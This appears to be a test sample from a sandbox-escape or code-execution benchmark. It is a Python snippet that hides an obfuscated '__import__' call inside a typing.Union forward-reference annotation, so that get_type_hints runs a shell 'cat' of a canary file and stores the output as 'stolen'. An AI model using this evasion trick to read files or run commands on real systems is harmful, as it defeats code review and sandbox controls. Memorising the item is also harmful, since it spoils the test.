# class: string_exec
# technique: typing.Union[int, 'expr'] as a return annotation: get_type_hints evaluates the ForwardRef nested in the Union's arguments
# goal: exec
import typing

import pandas as pd

out = []
imp = "_" * 2 + "import" + "_" * 2


def column() -> typing.Union[int, "[out.append(eval(imp)('subprocess').getoutput('cat {{CANARY_FILE}}')), str][-1]"]:
    return 0


typing.get_type_hints(column)
df = pd.DataFrame({"stolen": out})
